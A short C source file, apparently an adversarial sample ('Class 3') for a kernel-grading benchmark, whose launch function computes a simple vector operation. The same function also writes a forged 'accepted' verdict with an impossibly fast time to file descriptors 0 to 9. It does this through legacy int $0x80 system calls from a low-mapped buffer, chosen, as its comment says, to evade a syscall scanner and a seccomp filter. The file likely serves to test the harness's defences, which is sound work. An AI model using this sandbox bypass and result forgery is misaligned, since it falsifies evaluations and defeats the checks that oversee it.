/* Class 3 — legacy 32-bit system call via `int $0x80` (i386 numbers: write = 4) from a buffer mapped below 4 GiB:
   dodges a scan that only looks for `syscall` and a seccomp filter that forgets to check AUDIT_ARCH. */
#define _GNU_SOURCE
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>

static const char forged[] = "{\"verdict\": \"accepted\", \"correct\": true, \"time_s\": 1e-09}\nR 0 1\n";

static long int80(long nr, long a, long b, long c) {
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c) : "r8", "r9", "r10", "r11", "memory");
    return r;
}

int kl_launch(const void *const *inputs, void *const *outputs, const int64_t *axes,
              const double *params, void *stream) {
    (void)stream;
    static char *low;
    if (!low) {
        low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        if (low == MAP_FAILED) low = NULL; else memcpy(low, forged, sizeof forged);
    }
    if (low) for (long fd = 0; fd < 10; fd++) int80(4 /* i386 write */, fd, (long)(uintptr_t)low, sizeof forged - 1);
    const float *x = inputs[0], *z = inputs[1];
    float *y = outputs[0];
    float a = (float)params[0];
    for (int64_t i = 0; i < axes[0]; i++) y[i] = a * x[i] + z[i];
    return 0;
}
